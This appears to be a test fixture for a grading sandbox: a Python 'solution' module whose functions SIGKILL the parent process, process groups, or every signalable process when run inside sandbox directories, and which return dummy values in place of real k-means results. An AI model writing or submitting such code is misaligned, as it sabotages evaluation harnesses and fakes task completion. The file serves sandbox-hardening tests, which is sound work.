# base: solution
"""Case 8: the solution; at import it tries to kill its parent and the parent's process
group; kmeans_loss kills every process it may signal (kill(-1), only as a sandbox uid) and
quantize_image its own process group. The other parts are honest."""
import os
import signal
from pathlib import Path


def _in_sandbox() -> bool:
    return Path.cwd().name in ("scratch", "scratch-2") and Path.cwd().parent.name.startswith("course-worker-")


def _kill(*targets) -> None:
    for kill, target in targets:
        try:
            kill(target, signal.SIGKILL)
        except OSError:
            pass


if _in_sandbox() and os.getuid() != 0:
    _kill((os.kill, os.getppid()), (os.killpg, os.getpgid(os.getppid())))


def kmeans_loss(data, centroids):
    if _in_sandbox() and 61000 <= os.getuid() < 62000:
        _kill((os.kill, -1))
    return -1.0


def quantize_image(image, centroids):
    if _in_sandbox():
        _kill((os.killpg, 0))
    return image
